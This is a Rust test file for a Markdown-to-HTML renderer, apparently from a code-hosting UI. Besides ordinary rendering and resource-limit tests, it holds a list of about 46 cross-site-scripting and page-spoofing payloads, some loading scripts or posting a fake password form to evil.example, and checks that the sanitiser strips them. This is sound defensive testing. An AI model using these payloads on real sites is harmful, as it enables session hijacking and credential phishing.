//! What Markdown becomes, and what never survives.

use super::{Place, markdown};

fn rendered(source: &str) -> String {
    let place = Place { repository: "/ada/engine".into(), revision: "main".into(), folder: String::new() };
    markdown(source.as_bytes(), &place).into_string()
}

#[test]
fn github_flavour() {
    insta::assert_snapshot!(rendered(
        "# Usage & more\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n~~old~~ www.example.org :tada:[^1]\n\n\
         > [!WARNING]\n> Careful\n\n```rust\nlet a = \"<b>\";\n```\n\n[^1]: A note.\n"
    ));
}

#[test]
fn links_are_resolved_and_images_of_others_become_links() {
    insta::assert_snapshot!(rendered(
        "[guide](docs/guide.md#L3) [top](#usage) [dir](src/) [mail](mailto:a@b.c) [out](https://example.org)\n\n\
         ![A logo](assets/logo.png) [![badge](https://ci.example/b.svg)](https://ci.example) ![](x/y.png)\n\n\
         <p align=\"center\"><img src='https://cdn.example/a.png' alt=\"Big picture\" width=300></p>\n\n\
         <a href=\"/LICENSE\"><img src=x.png></a>\n\n<details open><summary>More</summary>\n\n**inside**\n\n</details>\n"
    ));
}

#[test]
fn invalid_utf8_is_shown_as_well_as_possible() {
    let place = Place { repository: "/a/b".into(), revision: "main".into(), folder: String::new() };
    assert!(markdown(b"caf\xe9 *ok*", &place).into_string().contains("caf\u{FFFD} <em>ok</em>"));
}

/// Each of these tries to run something, to load something, or to pass for a part of our page.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" alt='\"><script>alert(1)</script>'>",
    "<img src='x\" onmouseover=\"alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\" onclick=alert(1)>x</a>",
    "<a href=\"x\" style=\"position:fixed;inset:0\">x</a>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=x.swf></object><embed src=x>",
    "<form action=https://evil.example><input name=password type=password><button>Sign in</button></form>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<div id=main class=\"notice button\">fake</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<details ontoggle=alert(1) open>x</details>",
    "<video src=x onerror=alert(1)><source src=x></video>",
    "```\"><script>alert(1)</script>\nx\n```",
    "# <script>alert(1)</script>",
    "# \" onmouseover=\"alert(1)",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "[^\"onload=alert(1)]\n\n[^\"onload=alert(1)]: x",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<img <img src=x onerror=alert(1)>",
    "<img src=x alt=<script>alert(1)</script>",
];

#[test]
fn nothing_harmful_survives() {
    for attack in ATTACKS {
        let html = rendered(attack);
        crate::ui::testing::assert_harmless(&html, attack);
        for gone in
            ["<form", "<iframe", "<style", "<svg", "<object", "<meta", "<base", "<link", "class=\"notice"]
        {
            assert!(!html.to_ascii_lowercase().contains(gone), "{attack:?} left {gone} in {html}");
        }
        for image in html.split("<img ").skip(1) {
            let source = image.split("src=\"").nth(1).unwrap_or("/ada/engine/raw/main/");
            assert!(source.starts_with("/ada/engine/raw/main/"), "{attack:?} left another picture: {html}");
        }
        assert!(!html.contains(" id=\"main\""), "{attack:?} took an id of ours: {html}");
    }
}

#[test]
fn deep_nesting_costs_neither_stack_nor_minutes() {
    for piece in ["> ", "- ", "<div>", "<b>", "[", "*a ", "<a>", "![", "<p>", "<table>", "<details>"] {
        let html = rendered(&piece.repeat(20_000));
        assert!(!html.is_empty());
    }
}

#[test]
fn crooked_html_costs_neither_minutes_nor_memory() {
    let many: String = (0..490).map(|n| format!("<b id=x{n}>")).collect();
    let reopened = format!("<div>{many}</div>{}", "<p>x</p>".repeat(40_000));
    assert!(rendered(&reopened).starts_with("<pre"));
    for piece in ["<span></x>", "<div></x>", "<span><p></span></p>", "<div><!--</div>-->"] {
        let html = rendered(&piece.repeat(20_000));
        assert!(html.starts_with("<pre"), "{piece}");
    }
    let attributes: String = (0..40_000).map(|n| format!(" a{n}")).collect();
    assert!(rendered(&format!("x <a{attributes}>y</a>")).starts_with("<pre"));
}

#[test]
fn a_style_sheet_in_a_text_leaves_the_text() {
    let html = rendered("# Title\n\n<style>\np { color: red }\n</style>\n\n**bold** <script>x</script>\n");
    assert!(html.contains("<strong>bold</strong>") && html.contains("&lt;style"), "{html}");
    crate::ui::testing::assert_harmless(&html, "a style sheet");
}
